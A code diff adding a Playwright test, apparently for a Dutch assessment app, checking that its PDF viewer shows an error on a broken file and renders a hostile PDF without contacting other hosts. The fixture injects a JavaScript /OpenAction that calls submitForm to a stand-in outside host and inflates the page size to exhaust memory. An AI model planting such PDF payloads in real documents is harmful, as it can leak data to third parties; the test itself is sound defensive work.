@@ -61,3 +61,30 @@ test('a file supports two criteria, opens at its page, gives way to a newer vers
   await expect(page).toHaveURL(new RegExp(`/assessments/${assessmentId}/evidence$`));
   await expect(page.getByRole('listitem').filter({ hasText: 'Protocol klachten' })).toContainText('IV.3.a');
 });
+
+test('a hostile file harms nobody who looks at it', async ({ server, signedIn }) => {
+  const { assessmentId } = await openAssessment(server.db, 'duinrand.example');
+  const page = await signedIn('reader@duinrand.example');
+  await page.goto(`/assessments/${assessmentId}/evidence?q=Handboek`);
+  await page.getByRole('link', { name: 'Handboek claimafhandeling' }).click();
+  const asked: string[] = [];
+  page.on('request', (request) => asked.push(request.url()));
+  let body = Buffer.from('');
+  await page.route('**/api/evidence/*', (route) => route.fulfill({ contentType: 'application/pdf', body }));
+  const look = async (bytes: string) => {
+    body = Buffer.from(bytes, 'latin1');
+    await page.getByRole('button', { name: /Hier bekijken|Sluiten/ }).click();
+  };
+
+  await look('%PDF-1.7 and nothing that follows');
+  await expect(page.getByText('Dit bestand kan hier niet worden getoond')).toBeVisible();
+
+  const active = Buffer.from(demoPdf('Actief')).toString('latin1');
+  const action = '/OpenAction << /S /JavaScript /JS (app.alert(1); this.submitForm("https://elders.example/")) >>';
+  await look(active.replace('/Type /Catalog', `/Type /Catalog ${action}`).replace('[0 0 595 842]', '[0 0 1e9 1e9]'));
+  await expect(page.getByRole('region', { name: /^Weergave van/ })).toContainText('van 1');
+  const canvas = page.locator('.viewer-sheet canvas');
+  await expect.poll(() => canvas.evaluate((drawn: HTMLCanvasElement) => drawn.width * drawn.height)).toBeGreaterThan(1);
+  expect(await canvas.evaluate((drawn: HTMLCanvasElement) => drawn.width * drawn.height)).toBeLessThan(17_000_000);
+  expect(asked.filter((url) => !url.startsWith(server.origin))).toEqual([]);
+});
